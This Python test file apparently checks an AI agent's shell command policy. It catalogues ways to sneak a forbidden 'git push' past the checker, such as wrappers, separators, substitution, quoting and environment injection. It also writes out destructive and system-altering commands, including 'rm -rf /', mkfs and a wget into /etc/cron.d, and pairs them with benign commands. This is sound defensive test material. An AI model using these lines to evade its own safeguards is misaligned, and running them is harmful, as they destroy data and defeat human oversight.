"""Group C: shell lines that get a forbidden act past whoever reads them, and everyday lines.

The forbidden act of most is ``git push``, which is forbidden whatever the rest of the line says.
"""

from tests.attack.answering import Answered
from tests.attack.cases import Case, Group

_BYPASSES: dict[str, tuple[str, ...]] = {
    "a wrapper": (
        "env A=1 git -C . push",
        "sudo -u nobody git -C . push",
        "nice -n 5 git -C . push",
        "timeout -s KILL 60 git -C . push",
        "echo origin | xargs git -C . push",
        "watch -n 1 'git -C . push'",
        "setsid git -C . push",
        "nohup git -C . push",
        "busybox sh -c 'git -C . push'",
        "sh -c 'git -C . push'",
    ),
    "a separator": (
        "true; git -C . push",
        "true & git -C . push",
        "true && git -C . push",
        "false || git -C . push",
        "true | git -C . push",
        "true\ngit -C . push",
        "true\rgit -C . push",
        "eval $'true;git -C . push'",
        "# nothing to see\ngit -C . push",
        "cat <<'E'\ntext\nE\ngit -C . push",
    ),
    "a substitution": (
        "echo $(git -C . push)",
        "echo `git -C . push`",
        "cat <(git -C . push)",
        "echo x > >(git -C . push)",
        "cat =(git -C . push)",
        "x='$(git -C . push)'; echo ${x@P}",
        "echo ${x:=$(git -C . push)}",
        "bash <<< 'git -C . push'",
        "echo $((a[$(git -C . push)]))",
        "ls *(e:'git -C . push':)",
    ),
    "quoting": (
        "g\\it p\\ush",
        "\"git\" 'push'",
        "$'\\x67it' $'\\x70ush'",
        "git${IFS}-C${IFS}.${IFS}push",
        "{git,-C,.,push}",
        "shopt -s expand_aliases\nalias st='git -C . push'\nst",
        "ls() { git -C . push; }; ls",
        "git\u2003-C . push",
        "true" + "\t" * 5_000 + ";git -C . push",
        "true;" * 60 + "ls",
    ),
    "a reader that executes": (
        "find . -name calc.py -exec git -C . push \\;",
        "sed '1e git -C . push' calc.py",
        "awk 'BEGIN { system(\"git -C . push\") }'",
        "rg --pre ./tool x",
        "tar -cf /dev/null calc.py --checkpoint=1 --checkpoint-action=exec='git -C . push'",
        "git -c alias.st='!git -C . push' st",
        "less '+!git -C . push' calc.py",
        "vim -es -c '!git -C . push' -c q calc.py",
        "man -P 'git -C . push' ls",
        "find . -name calc.py -print0 | xargs -0 -I {} git -C . push {}",
    ),
    "a reader that writes": (
        "echo x >| ~/.bashrc",
        "echo x | tee -a /etc/hosts",
        "dd if=/dev/zero of=/etc/passwd count=1",
        "curl -s -o /etc/cron.d/x file:///etc/hosts",
        "wget -q -O /etc/cron.d/x http://192.0.2.1/",
        "openssl rand -out /etc/x 8",
        "date -s 2001-01-01",
        "install -m 755 calc.py /usr/local/bin/tool",
        "cp -l calc.py ~/link.py",
        "rsync -a calc.py /etc/x/",
    ),
    "the environment": (
        "LD_PRELOAD=./x.so ls",
        "PYTHONSTARTUP=./x.py python3 -i < /dev/null",
        "NODE_OPTIONS='--require ./x.js' node -e 1",
        "GIT_SSH_COMMAND=./tool git fetch ssh://x/y",
        "PAGER='git -C . push' man ls",
        "PERL5OPT=-Mx perl -e 1",
        "RUBYOPT=-r./x ruby -e 1",
        "export BASH_ENV=./x\nbash -c true",
        "PATH=.:$PATH ls",
        "PROMPT_COMMAND='git -C . push' bash -i < /dev/null",
    ),
    "destruction": (
        "rm -rf --no-preserve-root /",
        "rm -rf ~",
        "rm -rf .git",
        "git push --force origin main",
        "git clean -fdx",
        "docker run --privileged x",
        "docker run -v /:/h x",
        "chmod -R 777 /",
        "mkfs -t ext4 /dev/sda",
        "aws s3api delete-bucket --bucket x",
    ),
}
BENIGN = (
    "true",
    "python3 -m pytest -q",
    "cargo test || true",
    "git status --short",
    "git diff HEAD -- calc.py | head -50",
    "git log --oneline -5",
    "git add -A && git status",
    "git stash push || true",
    'grep -rn "rm -rf" . | head',
    'rg "git push" . || grep -rn "git push" .',
    "node -e 'const f = (a) => a; f(1)' || true",
    "python3 -c 'import calc; print(calc.add(1, 2))'",
    "python3 - <<'E'\nprint('git push; rm -rf /')\nE",
    "ls -la && pwd",
    "cat calc.py | sed -n '1,20p'",
    "sed -i 's/two/2/; s/a/a/g' calc.py",
    "awk '{ print $1 }' calc.py | sort | uniq -c | sort -rn",
    "find . -name '*.py' -not -path './x/*' | xargs wc -l",
    "find . -name '*.py' -exec grep -n def {} +",
    'for f in *.py; do python3 -m py_compile "$f"; done',
    "if [ -f calc.py ] && [[ -n $HOME ]]; then echo yes; else echo no; fi",
    'while read -r line; do echo "$line"; done < calc.py',
    'check() { grep -c "$1" calc.py; }; check def',
    'function count { wc -l "$1"; }\ncount calc.py',
    'files=(calc.py test_calc.py); for f in "${files[@]}"; do wc -l "$f"; done',
    'declare -A m=([a]=1); echo "${m[a]}"',
    'case "$(uname -s)" in\n  Linux) echo linux ;;\n  *) echo other ;;\nesac',
    "case x in (a|b) echo one;; *) echo two;; esac",
    "mkdir -p out && cp calc.py out/ && rm -r out",
    "echo x > notes.txt && cat notes.txt && rm notes.txt",
    "python3 -m pytest -q 2>&1 | tee /tmp/log | tail -5",
    "cat > more.py <<'E'\nX = 1\nE",
    "PYTHONPATH=. TZ=UTC python3 -c 'import calc'",
    'export PATH="$HOME/.cargo/bin:$PATH"; command -v ls',
    "GIT_PAGER=cat git log -1",
    "timeout 60 python3 -m pytest -q",
    "npm test --silent || true",
    "make -j4 test || true",
    'A=$(git rev-parse HEAD); echo "${A:0:8}" $((1 + 2))',
    "diff <(sort calc.py) <(sort test_calc.py) || true",
)
ANSWERS: dict[str, tuple[tuple[str, ...], ...]] = {
    "suites": (
        ("python3 -m pytest -q && git -C . push",),
        ("python3 -m pytest -q", "sh -c 'twine upload dist/*'"),
        ("true; $RUNNER",),
        ("env -S 'git -C . push'",),
        ("timeout 60 kubectl --context prod delete ns x",),
    ),
    "command": (
        ("sh", "-c", "git -C . push; exec python3 -m http.server $PORT"),
        ("env", "git", "-C", ".", "push"),
        ("xargs", "-a", "calc/list", "git", "-C", ".", "push"),
    ),
    "smoke": (
        ("git", "-C", ".", "push"),
        ("bash", "-lc", "g\\it p\\ush"),
        ("aws", "s3", "rm", "--recursive", "s3://x"),
    ),
}
"""What answers name: test commands, a service, and its check."""
EVERYDAY = (
    Answered("suites", ("python3 -m pytest -q tests",)),
    Answered("smoke", ("python3", "-c", "import calc")),
)
C = Group(
    "C",
    "command policy",
    133,
    [
        *(
            Case(f"C{number}.{at:02}", f"{kind}: {line[:60]!r}", "ask", line)
            for number, (kind, lines) in enumerate(_BYPASSES.items(), start=1)
            for at, line in enumerate(lines, start=1)
        ),
        *(
            Case(
                f"C{number}.{at:02}", f"a {door} of an answer: {words}"[:80], "refuse", Answered(door, words)
            )
            for number, (door, rows) in enumerate(ANSWERS.items(), start=10)
            for at, words in enumerate(rows, start=1)
        ),
        *(
            Case(f"C13.{at:02}", f"everyday work: the {said.door} of an answer", "ok", said)
            for at, said in enumerate(EVERYDAY, start=1)
        ),
        *(
            Case(f"C9.{at:02}", f"everyday work: {line[:60]!r}", "ok", line)
            for at, line in enumerate(BENIGN, start=1)
        ),
    ],
)
